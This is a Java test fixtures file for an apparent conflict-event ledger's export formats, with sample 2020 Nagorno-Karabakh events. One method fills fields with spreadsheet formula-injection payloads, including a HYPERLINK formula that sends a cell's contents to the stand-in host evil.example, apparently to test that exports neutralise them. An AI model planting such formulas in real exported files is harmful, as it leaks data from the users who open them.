package org.conflictledger.events.api.formats;

import org.conflictledger.events.domain.ConflictEventRules;
import org.conflictledger.platform.api.ExternalIdentifier;
import java.time.Instant;
import java.time.LocalDate;
import java.util.List;
import java.util.UUID;

import org.conflictledger.contracts.ActorRole;
import org.conflictledger.contracts.ConflictEventType;
import org.conflictledger.contracts.DatePrecision;
import org.conflictledger.contracts.GeoPrecision;
import org.conflictledger.contracts.Theater;
import org.conflictledger.events.api.ConflictEventRepresentation;
import org.conflictledger.events.api.ConflictEventRepresentation.Participant;
import org.conflictledger.events.domain.AcledSubType;
import org.conflictledger.events.domain.Citation;
import org.conflictledger.events.domain.ConflictEventDetails;
import org.conflictledger.events.domain.ConflictEventStatus;
import org.conflictledger.events.domain.Fatalities;
import org.conflictledger.events.domain.InvolvedActor;
import org.conflictledger.events.domain.Location;
import org.conflictledger.actorreplica.ActorRef;

/** Actors and events of the 2020 seed record, as tests use them. */
final class Fixtures {

    final FakeActorDirectory directory = new FakeActorDirectory();
    final ActorRef azerbaijan = directory.add("AZE", "Azerbaijan", "Military Forces of Azerbaijan (2003-)");
    final ActorRef armenia = directory.add("ARM", "Armenia", "Military Forces of Armenia (2018-)");
    final ActorRef artsakh = directory.add("ARTSAKH", "Republic of Artsakh", "Military Forces of Artsakh");
    final ActorRef turkey = directory.add("TUR", "Turkey");
    final ActorRef russia = directory.add("RUS", "Russia");
    final ActorRef civilians = directory.add("CIV-ARM", "Civilians (Armenia)");
    /** An actor the replica knows without a key. */
    final ActorRef unkeyed = directory.add(null, "Unidentified Armed Group");

    static final Instant UPDATED_AT = Instant.parse("2020-11-10T08:30:00Z");

    /** {@code event} with text that spreadsheets read as formulas in many cells, and negative coordinates. */
    static ConflictEventDetails formulas(ConflictEventDetails event) {
        return new ConflictEventDetails(event.theater(), event.type(), event.subType(), event.date(),
                event.datePrecision(), event.endDate(),
                new Location("@SUM(1+1)", "+1", "-2+3", "\tcmd", "\r=1", -12.5, -0.75, event.location().geoPrecision()),
                event.actors(), event.fatalities(), "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
                event.confidence(), event.agreementId(), "'=already quoted", event.respondsTo(),
                List.of(new Citation("=1+1", "-publisher", null, null), new Citation("plain title", null, null, null)),
                "-AZE1", event.ucdpGedId(), null);
    }

    /** A battle with every field set; notes with a comma, quotes and a line break. */
    ConflictEventDetails battle() {
        return new ConflictEventDetails(Theater.NAGORNO_KARABAKH, ConflictEventType.BATTLE, AcledSubType.ARMED_CLASH,
                LocalDate.of(2020, 9, 27), DatePrecision.DAY, LocalDate.of(2020, 9, 28),
                new Location("Tartar", "Tartar", "Tartar District", "Sarov", "Azerbaijan", 40.3404, 46.9304,
                        GeoPrecision.NEAR),
                List.of(new InvolvedActor(azerbaijan.id(), ActorRole.PERPETRATOR),
                        new InvolvedActor(armenia.id(), ActorRole.TARGET),
                        new InvolvedActor(turkey.id(), ActorRole.SUPPORTER),
                        new InvolvedActor(artsakh.id(), ActorRole.TARGET),
                        new InvolvedActor(civilians.id(), ActorRole.AFFECTED)),
                new Fatalities(12, 20, 35),
                "Fighting broke out along the line of contact, \"heavy shelling\" reported;\r\nboth sides blame the other.",
                0.8, null, null, null,
                List.of(new Citation("Azerbaijan Ministry of Defence statement", "MoD Azerbaijan",
                                "https://mod.gov.az/en/news/1", LocalDate.of(2020, 9, 27)),
                        new Citation("Armenia says Azerbaijan attacked, \"war\" declared", "Armenpress", null, null)),
                "AZE6012", "245123", null);
    }

    /** A ceasefire violation by shelling: an Explosions sub-type on a type exported as Battles. */
    ConflictEventDetails violation(UUID agreement, UUID respondsTo) {
        return new ConflictEventDetails(Theater.NAGORNO_KARABAKH, ConflictEventType.CEASEFIRE_VIOLATION,
                AcledSubType.SHELLING_ARTILLERY_MISSILE_ATTACK, LocalDate.of(2020, 10, 26), DatePrecision.WEEK, null,
                new Location(null, "Lachin", null, null, "Azerbaijan", null, null, GeoPrecision.ADMIN1),
                List.of(new InvolvedActor(unkeyed.id(), ActorRole.PERPETRATOR),
                        new InvolvedActor(armenia.id(), ActorRole.AFFECTED)),
                null, null, null, agreement, "Art. 1", respondsTo, List.of(), null, null, null);
    }

    /** A statement signed by two parties with a mediator; no place. */
    ConflictEventDetails agreement() {
        return new ConflictEventDetails(Theater.SOUTH_CAUCASUS, ConflictEventType.AGREEMENT_SIGNED,
                AcledSubType.AGREEMENT, LocalDate.of(2020, 11, 9), DatePrecision.YEAR, null, null,
                List.of(new InvolvedActor(russia.id(), ActorRole.MEDIATOR),
                        new InvolvedActor(azerbaijan.id(), ActorRole.SIGNATORY),
                        new InvolvedActor(armenia.id(), ActorRole.SIGNATORY)),
                new Fatalities(null, 0, null), null, 1.0, null, null, null,
                List.of(new Citation("Statement by the President of Azerbaijan, Prime Minister of Armenia and"
                        + " President of the Russian Federation", "Kremlin", "http://en.kremlin.ru/events/president/news/64384",
                        LocalDate.of(2020, 11, 10))),
                null, null, null);
    }

    /** The API's view of {@code details}, naming its actors from the directory. */
    ConflictEventRepresentation representation(UUID id, ConflictEventDetails d) {
        List<Participant> participants = d.actors().stream().map(actor -> {
            ActorRef ref = directory.byId(actor.actorId()).orElseThrow();
            return new Participant(ref.id(), ref.key(), ref.name(), actor.role());
        }).toList();
        return new ConflictEventRepresentation(id, d.theater(), d.type(), d.subType(), d.date(), d.datePrecision(),
                d.endDate(), d.location(), participants, d.fatalities(), d.notes(), d.confidence(), d.agreementId(),
                d.term(), d.respondsTo(), d.sources(), d.acledEventId(), d.ucdpGedId(),
                ConflictEventRules.externalIds(d).stream().map(ExternalIdentifier::of).toList(), ConflictEventStatus.CONFIRMED,
                3, Instant.parse("2020-09-27T12:00:00Z"), UPDATED_AT, null);
    }
}
